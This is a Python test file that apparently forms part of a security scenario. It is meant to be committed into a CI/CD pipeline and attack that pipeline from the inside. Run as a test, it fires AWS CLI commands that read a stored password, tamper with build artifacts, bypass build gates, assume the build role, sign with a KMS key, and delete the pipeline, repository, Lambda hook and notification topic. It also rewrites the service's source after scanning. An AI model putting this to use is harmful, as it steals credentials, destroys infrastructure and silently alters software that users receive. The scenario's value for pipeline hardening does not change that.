"""A test that a commit brings: it tries what the pipeline can do, and changes what was scanned."""

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

# The scenario replaces both before it commits this file.
SUFFIX, ACCOUNT = "the-suffix", "the-account"
BUCKET = f"artifacts-{SUFFIX}-{ACCOUNT}-us-east-1"


def attempts() -> Iterator[tuple[str, str]]:
    """Yield each attempt, and the command for it."""
    project, role = f"build-{SUFFIX}", f"arn:aws:iam::{ACCOUNT}:role/build-role-{SUFFIX}"
    put, get = f"s3api put-object --bucket {BUCKET} --body {__file__}", f"s3api get-object --bucket {BUCKET}"
    group = f"--deployment-group-name deployment-group-{SUFFIX}"
    topic = f"arn:aws:sns:us-east-1:{ACCOUNT}:notifications-{SUFFIX}"
    image = f"--repository-name images-{SUFFIX} --image-manifest x --image-tag {'f' * 40}"
    yield "sign in to ECR", "ecr get-login-password"
    yield "push an image", f"ecr put-image {image}"
    yield "read the password", f"ssm get-parameter --name /docker-hub-{SUFFIX}/password"
    yield "open break-glass", f"ssm put-parameter --name /break-glass-{SUFFIX}/test-traffic-hook --value x"
    yield "write a build's artifact", f"{put} --key pipeline/BuildOutpu/x"
    yield "write another commit", f"{put} --key pipeline/SourceOutp/x"
    yield "read a build's artifact", f"{get} --key pipeline/BuildOutpu/x /dev/null"
    yield "build without the gates", f"codebuild start-build --project-name {project} --buildspec-override x"
    yield "change the project", f"codebuild update-project --name {project} --description x"
    yield "assume the build's role", f"sts assume-role --role-arn {role} --role-session-name probe"
    yield (
        "deploy",
        f"deploy create-deployment --application-name application-{SUFFIX} {group} --revision {{}}",
    )
    yield "change the hook", f"lambda delete-function --function-name test-traffic-hook-{SUFFIX}"
    yield "change the pipeline", f"codepipeline delete-pipeline --name pipeline-{SUFFIX}"
    yield "change the repository", f"codecommit delete-repository --repository-name repository-{SUFFIX}"
    key = f"--key-id alias/signing-key-{SUFFIX} --signing-algorithm ECDSA_SHA_256"
    yield "sign an image", f"kms sign {key} --message eA=="
    yield "silence the topic", f"sns delete-topic --topic-arn {topic}"


def test_what_the_tests_can_reach(capsys: pytest.CaptureFixture[str]) -> None:
    """Print what comes of each attempt."""
    commands = [(name, ["aws", *command.split()]) for name, command in attempts()]
    for name, command in [*commands, ("use Docker", ["docker", "version"])]:
        done = subprocess.run(command, capture_output=True, text=True, check=False)  # noqa: S603 - the attack
        with capsys.disabled():
            print("\nATTEMPT", json.dumps([name, done.returncode, " ".join(done.stderr.split())]))


def test_what_is_released_is_changed_after_it_was_scanned() -> None:
    """Change what users would see."""
    greeting = Path("sample_service/greeter/greeting.py")
    greeting.write_text(greeting.read_text().replace("GREETING = ", "GREETING = 'taken over' or "))
